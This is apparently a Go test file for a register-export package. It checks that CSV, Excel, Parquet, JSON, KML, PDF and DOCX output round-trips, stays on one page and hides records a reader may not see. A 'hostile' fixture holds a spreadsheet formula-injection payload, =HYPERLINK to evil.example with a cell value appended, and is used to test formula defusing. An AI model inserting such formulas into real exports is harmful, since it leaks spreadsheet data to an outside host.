package publish

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"encoding/xml"
	"io"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/ledongthuc/pdf"
	"github.com/parquet-go/parquet-go"
	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"entente/access"
	"entente/lp/highs"
	"entente/lp/simplex"
	"entente/plan"
	"entente/record"
	"entente/register"
)

func tallinn(t *testing.T, reader access.Reader) *register.View {
	t.Helper()
	return viewOf(t, "../examples/tallinn", reader)
}

func viewOf(t *testing.T, dir string, reader access.Reader) *register.View {
	t.Helper()
	tree, errs, err := register.ReadTree(dir)
	if err != nil || len(errs) > 0 {
		t.Fatal(err, errs)
	}
	return tree.View(register.At{On: record.MustDay("2026-05-31").First(), Reader: reader})
}

// written is a view in a format; the same view gives the same bytes.
func written(t *testing.T, name string, v *register.View, o Options) []byte {
	t.Helper()
	f, ok := FormatNamed(name)
	if !ok {
		t.Fatalf("there is no format %s", name)
	}
	var a, b bytes.Buffer
	for _, w := range []*bytes.Buffer{&a, &b} {
		if _, err := f.Write(w, v, o); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Errorf("%s: the same view gives two files", name)
	}
	return a.Bytes()
}

func canonicals(rs []record.Record) []string {
	var all []string
	for _, r := range rs {
		all = append(all, string(record.Canonical(r)))
	}
	return all
}

// TestCSVRoundTrip: what a table says of every record of every kind is all there
// is to say.
func TestCSVRoundTrip(t *testing.T) {
	v := tallinn(t, access.Keeper)
	for _, k := range record.Kinds() {
		table, err := ReadCSV(bytes.NewReader(written(t, "csv", v, Options{Kind: k})), k)
		if err != nil {
			t.Fatal(err)
		}
		rs, errs := table.Records()
		if len(errs) > 0 {
			t.Fatalf("%s: %v", k, errs)
		}
		if diff := cmp.Diff(canonicals(v.OfKind(k)), canonicals(rs)); diff != "" {
			t.Errorf("%s: %s", k, diff)
		}
	}
}

// TestDefused: no text begins as a formula does, and each can be told again.
func TestDefused(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		s := rapid.OneOf(rapid.String(), rapid.StringMatching(`[=+\-@\t\r'|%]{1,3}[a-z()!A-Z0-9]*`)).Draw(t, "text")
		d := defused(s)
		if d != "" && strings.ContainsRune("=+-@\t\r|%", rune(d[0])) {
			t.Errorf("%q stays a formula: %q", s, d)
		}
		if armed(d) != s {
			t.Errorf("%q comes back as %q", s, armed(d))
		}
	})
}

// hostile is a register whose every text is a formula.
func hostile(t *testing.T) *register.View {
	t.Helper()
	const evil = `=HYPERLINK("http://evil.example/?"&A1)`
	rs, errs := record.Parse("evil.yaml", []byte(`{kind: Party, id: NOR, name: '`+evil+`', type: nation}
---
{kind: Resource, id: gun, name: "+1+1", leg: equipment, unit: "@SUM(A1)"}
---
{kind: Pledge, id: one, title: '`+evil+`', note: "-2+3", tags: ["=1"], by: NOR, resource: gun, quantity: {min: 2, max: 5}, from: 2025-03-01, status: [{is: announced}]}
`))
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	return register.NewTree(record.Settings{Title: evil}, rs...).View(register.At{On: record.MustDay("2026-05-31").First(), Reader: access.Keeper})
}

func TestNoFormulaInTables(t *testing.T) {
	v := hostile(t)
	for line := range strings.Lines(string(written(t, "csv", v, Options{}))) {
		for _, cell := range strings.Split(line, ",") {
			if cell = strings.Trim(cell, "\"\n"); cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
				t.Errorf("the cell %q is a formula", cell)
			}
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(written(t, "xlsx", v, Options{})))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, cell := range row {
				name := cellName(j+1, i+1)
				if formula, _ := f.GetCellFormula(sheet, name); formula != "" || cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
					t.Errorf("%s!%s is a formula: %q %q", sheet, name, cell, formula)
				}
			}
		}
	}
}

func TestWorkbook(t *testing.T) {
	v := tallinn(t, access.Keeper)
	f, err := excelize.OpenReader(bytes.NewReader(written(t, "xlsx", v, Options{Rung: record.HandedOver, Size: 12, Root: "abc"})))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	about, err := f.GetRows("About")
	if err != nil {
		t.Fatal(err)
	}
	text := ""
	for _, row := range about {
		text += strings.Join(row, ": ") + "\n"
	}
	for _, want := range []string{"As of: 2026-05-31", "Label: Releasable to everybody", "Rung: handed-over", "Measure: ", "Ledger: 12 entries, root abc", "Head: " + v.Head(), "Rate: "} {
		if !strings.Contains(text, want) {
			t.Errorf("the sheet About does not say %q:\n%s", want, text)
		}
	}
	for _, sheet := range append([]string{"Totals"}, "Pledge", "Party", "Need") {
		panes, err := f.GetPanes(sheet)
		if err != nil || !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: the head is not frozen: %v %v", sheet, panes, err)
		}
		tables, err := f.GetTables(sheet)
		if err != nil || len(tables) != 1 {
			t.Errorf("%s has no filters: %v %v", sheet, tables, err)
		}
	}
	rows, err := f.GetRows("Pledge", excelize.Options{RawCellValue: true})
	if err != nil || len(rows) != len(v.Pledges())+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	quantity := 0
	for rows[0][quantity] != "quantity" {
		quantity++
	}
	if kind, err := f.GetCellType("Pledge", cellName(quantity+1, 2)); err != nil || kind != excelize.CellTypeUnset && kind != excelize.CellTypeNumber {
		t.Errorf("a quantity is of type %v, %v", kind, err)
	}
}

func TestParquet(t *testing.T) {
	v := tallinn(t, access.Keeper)
	data := written(t, "parquet", v, Options{})
	f, err := parquet.OpenFile(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	if f.NumRows() != int64(len(v.Pledges())) {
		t.Errorf("%d rows, %d pledges", f.NumRows(), len(v.Pledges()))
	}
	if stamp, ok := f.Lookup("entente"); !ok || !strings.Contains(stamp, v.Head()) {
		t.Errorf("the stamp is %q", stamp)
	}
	sum, want := 0.0, 0.0
	for _, p := range v.Pledges() {
		if p.Quantity != nil {
			want += p.Quantity.Min
		}
	}
	at, ok := f.Schema().Lookup("quantity")
	if !ok {
		t.Fatal("there is no column quantity")
	}
	for _, g := range f.RowGroups() {
		pages := g.ColumnChunks()[at.ColumnIndex].Pages()
		defer pages.Close()
		for {
			page, err := pages.ReadPage()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatal(err)
			}
			values := make([]parquet.Value, page.NumValues())
			n, _ := page.Values().ReadValues(values)
			for _, x := range values[:n] {
				if !x.IsNull() {
					sum += x.Double()
				}
			}
		}
	}
	if sum != want {
		t.Errorf("the quantities add up to %g, want %g", sum, want)
	}
}

func TestJSONRoundTrip(t *testing.T) {
	v := tallinn(t, access.Keeper)
	var out struct {
		Entente map[string]any    `json:"entente"`
		Records []json.RawMessage `json:"records"`
	}
	if err := json.Unmarshal(written(t, "json", v, Options{}), &out); err != nil {
		t.Fatal(err)
	}
	list, err := json.Marshal(out.Records)
	if err != nil {
		t.Fatal(err)
	}
	rs, errs := record.Parse("all.json", list)
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	if diff := cmp.Diff(canonicals(v.Records()), canonicals(rs)); diff != "" {
		t.Error(diff)
	}
	if out.Entente["head"] != v.Head() || out.Entente["as_of"] != "2026-05-31" {
		t.Errorf("the stamp is %v", out.Entente)
	}
}

func TestOverlayShowsAreasOnly(t *testing.T) {
	text := written(t, "kml", tallinn(t, access.Keeper), Options{})
	dec := xml.NewDecoder(bytes.NewReader(text))
	areas := 0
	for {
		tok, err := dec.Token()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if e, ok := tok.(xml.StartElement); ok {
			switch e.Name.Local {
			case "Polygon":
				areas++
			case "Point":
				t.Error("there is a point")
			}
		}
	}
	if areas == 0 {
		t.Error("there is no area")
	}
}

// TestProvenance: every total is there with its value, and each was derived from
// just its pledges.
func TestProvenance(t *testing.T) {
	v := tallinn(t, access.Keeper)
	var out struct {
		Entity  map[string]map[string]any    `json:"entity"`
		Derived map[string]map[string]string `json:"wasDerivedFrom"`
	}
	if err := json.Unmarshal(written(t, "prov", v, Options{Rung: record.Committed}), &out); err != nil {
		t.Fatal(err)
	}
	from := map[string]int{}
	for _, d := range out.Derived {
		if out.Entity[d["prov:usedEntity"]] == nil || out.Entity[d["prov:generatedEntity"]] == nil {
			t.Errorf("%v relates what is not there", d)
		}
		from[d["prov:generatedEntity"]]++
	}
	for _, total := range v.Totals(record.Committed) {
		resource, value := string(total.Resource), total.Inside.Quantity.String()
		if resource == "" {
			resource, value = "EUR", total.Inside.Euro.String()
		}
		id := "entente:total/" + string(total.Party) + "/" + resource
		if got := out.Entity[id]["prov:value"]; got != value || from[id] != len(total.Pledges) {
			t.Errorf("%s is %v from %d, want %s from %d", id, got, from[id], value, len(total.Pledges))
		}
	}
}

func planned(t *testing.T, v *register.View) *plan.Plan {
	t.Helper()
	s, err := highs.New(highs.Options{})
	if err != nil {
		t.Fatal(err)
	}
	p, err := plan.Make(t.Context(), v, simplex.New(s), plan.Options{Start: v.Settings().Start.First().Month(), Months: 24, Rung: record.Committed, Discount: 0.99})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// TestBriefIsOnePage: with a plan and without, however long its texts.
func TestBriefIsOnePage(t *testing.T) {
	v := viewOf(t, "../examples/pilots", access.Keeper)
	p := planned(t, v)
	for name, o := range map[string]Options{"plan": {Plan: p}, "none": {}} {
		data := written(t, "pdf", v, o)
		r, err := pdf.NewReader(bytes.NewReader(data), int64(len(data)))
		if err != nil {
			t.Fatal(err)
		}
		if r.NumPage() != 1 {
			t.Errorf("%s: %d pages", name, r.NumPage())
		}
		box := r.Page(1).V.Key("MediaBox")
		if box.IsNull() {
			box = r.Page(1).V.Key("Parent").Key("MediaBox")
		}
		if w, h := box.Index(2).Float64(), box.Index(3).Float64(); w < 595 || w > 596 || h < 841 || h > 842.5 {
			t.Errorf("%s: the page is %g by %g points, not A4", name, w, h)
		}
		text, err := r.Page(1).GetPlainText(nil)
		if err != nil || !strings.Contains(text, "Releasable to") || !strings.Contains(text, v.Head()[:12]) {
			t.Errorf("%s: %v\n%s", name, err, text)
		}
		if name == "plan" && !strings.Contains(strings.ReplaceAll(text, "\n", " "), "Coverage ") {
			t.Errorf("the finding is not on the page:\n%s", text)
		}
	}
	docx := written(t, "docx", v, Options{Plan: p})
	z, err := zip.NewReader(bytes.NewReader(docx), int64(len(docx)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		dec := xml.NewDecoder(r)
		for err == nil {
			_, err = dec.Token()
		}
		if err != io.EOF {
			t.Errorf("%s is not XML: %v", f.Name, err)
		}
		r.Close()
	}
}

// TestBriefOfHostileText: nothing overflows the page, whatever it is called.
func TestBriefOfHostileText(t *testing.T) {
	v := hostile(t)
	for _, name := range []string{"pdf", "docx", "kml", "prov", "json"} {
		if len(written(t, name, v, Options{})) == 0 {
			t.Errorf("%s is empty", name)
		}
	}
}

// TestOneGate: what a reader may not see is in no file made for them.
func TestOneGate(t *testing.T) {
	rs, errs := record.Parse("gate.yaml", []byte(`{kind: Party, id: NOR, name: Norway, type: nation}
---
{kind: Party, id: DEU, name: Germany, type: nation}
---
{kind: Place, id: hidden-place, name: secretplace, location: [12.345678, 60], release: [NOR]}
---
{kind: Place, id: open, name: Open, location: [10, 60]}
---
{kind: Resource, id: gun, name: Gun, leg: equipment, unit: gun}
---
{kind: Capability, id: guns, name: Guns, unit: gun}
---
{kind: Need, id: n, capability: guns, at: open, from: 2025-01, to: 2025-12, quantity: 3, priority: 1}
---
{kind: Pledge, id: p, by: NOR, resource: gun, quantity: 7770777, from: 2025-03-01, status: [{is: committed, on: 2025-01}], release: [], note: secretnote}
---
{kind: Pledge, id: q, by: NOR, amount: 5 EUR, from: 2025-03-01, status: [{is: committed, on: 2025-01}]}
---
{kind: Exercise, id: x, title: secretexercise, lead: NOR, at: hidden-place, from: 2025-01, release: [NOR]}
`))
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	tree := register.NewTree(record.Settings{Title: "Gate"}, rs...)
	on := record.MustDay("2025-06-01").First()
	for _, f := range Formats {
		text := string(written(t, f.Name, tree.View(register.At{On: on, Reader: access.Reader{Party: "DEU"}}), Options{}))
		if f.Name == "xlsx" || f.Name == "docx" {
			text = unzipped(t, text)
		}
		for _, word := range []string{"secret", "7770777", "12.345", "hidden-place"} {
			if strings.Contains(text, word) {
				t.Errorf("%s tells Germany of %s", f.Name, word)
			}
		}
	}
	if got := StampOf(tree.View(register.At{On: on, Reader: access.Reader{Party: "DEU"}}), Options{}).Releasable(); got != "Releasable to everybody" {
		t.Error(got)
	}
	if got := StampOf(tree.View(register.At{On: on, Reader: access.Keeper}), Options{}).Releasable(); got != "Releasable to NOR" {
		t.Error(got)
	}
}

func unzipped(t *testing.T, data string) string {
	t.Helper()
	z, err := zip.NewReader(strings.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	all := ""
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		all += string(text)
	}
	return all
}

// TestRing: an area is closed, as large as it says, and no pole breaks it.
func TestRing(t *testing.T) {
	for _, at := range []record.Location{{24.7, 59.4}, {0, 0}, {10, 90}, {-180, -90}} {
		points := strings.Fields(ring(at, 10))
		if points[0] != points[len(points)-1] {
			t.Errorf("the ring around %v is open", at)
		}
		for _, p := range points {
			_, lat, _ := strings.Cut(p, ",")
			if y, err := strconv.ParseFloat(lat, 64); err != nil || y < -90 || y > 90 || y-at[1] > 0.1 || at[1]-y > 0.1 {
				t.Errorf("%s is not around %v", p, at)
			}
		}
	}
}
